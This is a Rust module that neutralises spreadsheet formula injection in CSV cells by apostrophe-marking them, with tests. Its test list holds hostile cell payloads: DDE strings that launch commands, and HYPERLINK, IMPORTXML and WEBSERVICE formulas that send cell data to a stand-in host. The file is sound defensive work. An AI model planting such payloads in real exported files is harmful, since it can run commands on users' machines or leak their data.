//! The spreadsheet profile of CSV: cells that a spreadsheet would run or change are marked as text.
//!
//! A marked cell begins with one apostrophe. A cell that begins with an apostrophe of its own gets
//! another, so that [`restore`] is exact: one leading apostrophe is taken away, if there is one.
//!
//! Marked are cells a spreadsheet reads as a formula (`=`, `+`, `-`, `@` and their full-width forms,
//! also behind white space or invisible characters, and cells that begin with a control character),
//! and those it would round or shorten as a number: digits with a leading zero or more than fifteen.

use std::borrow::Cow;

const MARK: char = '\'';

/// Most decimal digits a spreadsheet's number (IEEE 754 double) keeps.
const EXACT_DIGITS: usize = 15;

const fn starts_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '＝'
            | '＋'
            | '－'
            | '＠'
            | '﹢'
            | '﹣'
            | '﹦'
            | '﹫'
            | '−'
            | '⁺'
            | '⁻'
            | '⁼'
    )
}

/// Characters that some programs skip before they look for a formula.
fn skipped(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}' | '\u{00AD}')
}

fn loses_digits(cell: &str) -> bool {
    let bytes = cell.as_bytes();
    let digits = !bytes.is_empty() && bytes.iter().all(u8::is_ascii_digit);
    digits && (bytes.len() > EXACT_DIGITS || (bytes.len() > 1 && bytes.first() == Some(&b'0')))
}

/// Whether a spreadsheet would take this cell for something other than its text.
pub fn endangered(cell: &str) -> bool {
    let first = cell.chars().next();
    first.is_some_and(|c| c.is_control() || c == '\u{FEFF}')
        || cell.chars().find(|c| !skipped(*c)).is_some_and(starts_formula)
        || loses_digits(cell)
}

/// The cell as the spreadsheet profile writes it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(MARK) || endangered(cell) {
        Cow::Owned(format!("{MARK}{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a cell may stand in the spreadsheet profile: marked where it must be, and nowhere else.
pub fn fits(cell: &str) -> bool {
    *neutralise(restore(cell)) == *cell
}

/// The cell as it was: the inverse of [`neutralise`].
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix(MARK).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Cells that have run as formulas somewhere, and cells that numbers eat.
    const DANGEROUS: &[&str] = &[
        "=1+1",
        "=cmd|'/c calc'!A0",
        "+41790000000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{200b}@x",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://x.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "\"=1+1",
        "-",
        "=",
        "007",
        "00",
        "12345678901234567890",
        "\u{202e}=1+1",
        "\0=1",
    ];
    const HARMLESS: &[&str] = &[
        "",
        "0",
        "7",
        "hello",
        "a=1",
        "123456789012345",
        "订单",
        "Grüße",
        "(1)",
        "1-2",
        "<script>",
        "مرحبا",
    ];

    #[test]
    fn nothing_dangerous_stays_bare_and_nothing_harmless_changes() {
        // shows B15
        for cell in DANGEROUS.iter().filter(|c| !c.starts_with('"')) {
            assert!(neutralise(cell).starts_with('\''), "{cell:?}");
            assert_eq!(restore(&neutralise(cell)), *cell);
        }
        for cell in HARMLESS {
            assert_eq!(neutralise(cell), *cell);
        }
        assert_eq!(neutralise("'quoted'"), "''quoted'");
        assert_eq!(restore("''quoted'"), "'quoted'");
    }

    proptest! {
        #[test]
        fn every_cell_comes_back_and_none_begins_a_formula(cell in "\\PC*|[=+@'\\t\\r \u{feff}-]{0,3}\\PC{0,5}|[0-9]{1,20}|(?s).{0,8}") {
            // shows B15
            let written = neutralise(&cell);
            prop_assert_eq!(restore(&written), cell.as_str());
            prop_assert!(!endangered(&written));
            prop_assert!(!written.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']));
        }
    }
}
